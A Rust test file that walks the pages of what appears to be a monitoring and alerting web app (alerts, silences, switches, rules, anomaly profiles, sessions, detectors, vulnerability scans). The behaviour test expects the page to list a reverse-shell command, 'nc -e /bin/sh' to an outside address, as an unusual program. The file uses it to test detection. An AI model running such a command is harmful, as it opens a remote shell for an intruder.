//! What people do on each page, and undo, so that it can be done again at another width.

use crate::walk::Walk;

pub(crate) fn all(walk: &mut Walk) {
    alerts(walk);
    silences(walk);
    switches(walk);
    rules(walk);
    explore(walk);
    behaviour(walk);
    sessions(walk);
    detectors(walk);
    vulnerabilities(walk);
}

/// The failing bank: found, looked at, taken on and given back, blocked and let go.
fn alerts(walk: &mut Walk) {
    walk.open("/");
    if walk.place.has_scripts {
        walk.browser.wait_for("document.querySelector('#live').textContent === 'live'");
    }
    walk.reads(&["payments-floor", "bank=hsbc", "payments went through in half an hour"]);
    walk.write("#filter input[name=q]", "drop");
    walk.follow("#filter button");
    assert!(!walk.browser.text("#alerts").contains("payments-floor"));
    walk.follow("#alerts tr.firing a[href^='/alerts/']");
    walk.reads(&["payments-drop", "bank=\"hsbc\"", "against the last two weeks"]);
    if walk.place.has_scripts {
        read_the_last_finding(walk);
    }
    walk.write("form[action$='/acknowledge'] input[name=comment]", "I ask the bank");
    walk.follow("form[action$='/acknowledge'] button");
    walk.reads(&["Taken by", "I ask the bank"]);
    walk.follow("button[value=give-back]");
    walk.follow("form[action$='/block'] button");
    walk.reads(&["bank == \"hsbc\""]);
    walk.follow("form.confirm button.danger");
    walk.reads(&["blocking", "block-bank.hsbc"]);
    walk.follow("form[action$='/deactivate'] button");
    walk.reads(&["inactive"]);
}

/// By keyboard alone: the value of the last finding.
fn read_the_last_finding(walk: &mut Walk) {
    let browser = &mut walk.browser;
    browser.wait_for("document.querySelector('figure.chart')?.dataset.ready === 'yes'");
    for _ in 0..60 {
        if browser.evaluate("document.activeElement.matches('figure.chart')") == true {
            break;
        }
        browser.press("Tab");
    }
    browser.press("p");
    browser.wait_for("document.querySelector('.chart .read').textContent.includes(', finding')");
    let read = browser.text(".chart .read");
    assert!(read.contains("value 0, "), "{read}");
}

/// A silence that says what it hits, and its end.
fn silences(walk: &mut Walk) {
    walk.open("/");
    walk.follow("#alerts tr.firing a[href^='/alerts/']");
    walk.follow("a[href^='/silences/new']");
    walk.reads(&["Hits 1 alert"]);
    walk.write("#matchers", "bank=~\"hs.*\"");
    walk.follow("button[value=count]");
    walk.reads(&["Hits 2 alerts"]);
    walk.write("input[name=comment]", "the bank knows");
    walk.follow("button[value=silence]");
    walk.reads(&["the bank knows", "bank=~\"hs.*\""]);
    walk.follow("form[action$='/end'] button");
    walk.reads(&["Nothing is silenced"]);
}

/// A switch: found, tried, turned on with a second look, and off.
fn switches(walk: &mut Walk) {
    walk.follow("header a[href='/switches']");
    walk.write("form.filter input[name=q]", "hsbc");
    walk.follow("form.filter button");
    walk.follow("main a[href='/switches/block-bank.hsbc']");
    walk.follow("a[href^='/switches/test']");
    walk.write("#context", "{\"bank\": \"hsbc\"}");
    walk.follow("main form button");
    walk.reads(&["not blocked", "its condition is true"]);
    walk.browser.follow("h3 a");
    walk.write("form[action$='/activate'] input[name=message]", "the bank still fails");
    walk.follow("form[action$='/activate'] button");
    walk.follow("form.confirm button.danger");
    walk.reads(&["blocking", "the bank still fails"]);
    walk.follow("form[action$='/deactivate'] button");
    walk.reads(&["inactive"]);
}

/// A rule with its chart, tried with what it would have done, and saved; the limits move by a handle.
fn rules(walk: &mut Walk) {
    walk.follow("header a[href='/rules']");
    walk.write("form.filter input[name=q]", "office");
    walk.follow("form.filter button");
    walk.follow("main a[href='/rules/office-too-warm']");
    walk.reads(&["office.temperature"]);
    walk.follow("a[href^='/edit?rule=']");
    walk.follow("div.ask button[value=preview]");
    walk.reads(&["It would have fired"]);
    if walk.place.has_scripts {
        walk.browser.wait_for("document.querySelector('.handle output').textContent.includes('fires')");
        walk.browser.evaluate("document.querySelector('#limit').focus()");
        walk.browser.press("Home");
        walk.browser.wait_for("document.querySelector('.handle output').textContent.includes('fires never')");
    }
    walk.write("input[name=message]", "as it was");
    walk.follow("button[value=save]");
    assert_eq!(walk.path(), "/rules/office-too-warm");
}

/// What is drawn: what made it, what is usual, what else changed, and a rule of it.
fn explore(walk: &mut Walk) {
    walk.follow("header a[href='/explore']");
    walk.follow("a[href='/explore?stream=payments&measure=count']");
    walk.write("input[name=by]", "bank");
    walk.write("input[name=where]", "status == \"ok\"");
    walk.follow("form.ask:has([name=stream]) button");
    walk.reads(&["What made it", "bank=hsbc"]);
    let link = |text: &str| {
        format!(
            "[...document.querySelectorAll('.spans a')].find((it) => it.textContent === '{text}').id = 'wanted'"
        )
    };
    walk.browser.evaluate(&link("with what is usual"));
    walk.follow("#wanted");
    walk.reads(&["bank=hsbc"]);
    walk.browser.evaluate(&link("what else changed"));
    walk.follow("#wanted");
    assert_eq!(walk.path(), "/explore/unlike");
    walk.reads(&["beside the eight stretches before it"]);
    walk.open("/explore?target=taxi.passengers&from=now-1w");
    walk.follow("a[href^='/edit?']");
    walk.reads(&["New rule"]);
}

/// What is unusual on a host, and why.
fn behaviour(walk: &mut Walk) {
    walk.follow("header a[href='/profiles']");
    walk.follow("main a[href='/profiles/programs']");
    walk.reads(&["nc -e /bin/sh 203.0.113.9 4444", "never seen"]);
    walk.browser.click("#rare + .scroll summary");
    walk.browser.wait_for(
        "document.querySelector('#rare + .scroll tbody').innerText.includes('worker ← supervisor')",
    );
    walk.follow(".spans a[href='/profiles/programs?span=1h']");
    walk.reads(&["backup"]);
}

/// Who misuses the API, and what people say of it.
fn sessions(walk: &mut Walk) {
    walk.follow("header a[href='/sessions']");
    walk.reads(&["client=203.0.113.7", "brute_force"]);
    walk.follow("main tbody th a");
    walk.reads(&["60 attempts to log in"]);
    walk.write("#why", "guesses passwords");
    walk.follow("button[value=anomalous]");
    walk.reads(&["anomalous, says", "guesses passwords"]);
    walk.follow("main form button.plain");
    walk.reads(&["Nobody has said yet"]);
}

/// What a detector looks at, another version that takes over, and back.
fn detectors(walk: &mut Walk) {
    walk.follow("header a[href='/detectors']");
    walk.follow("main tbody a");
    walk.reads(&["Alarms a day", "champion"]);
    walk.follow("main button[value=champion]");
    walk.write("#message", "it saw less");
    walk.follow("form.confirm button");
    assert_eq!(walk.path(), "/detectors/payments");
    walk.follow("form[action='/models/rollback'] button");
    walk.follow("form.confirm button");
    assert_eq!(walk.path(), "/detectors/payments");
}

/// What the last scan changed.
fn vulnerabilities(walk: &mut Walk) {
    walk.follow("header a[href='/vulnerabilities']");
    walk.reads(&["2 open", "Log4j"]);
    walk.write("form.filter input", "severity == \"medium\"");
    walk.follow("form.filter button");
    walk.reads(&["TLS 1.0 is offered"]);
    walk.open("/vulnerabilities");
    walk.follow("main a[href*='fixed_ms']");
    walk.follow("#findings + .scroll a");
    walk.reads(&["OpenSSL", "Install the newest version."]);
}
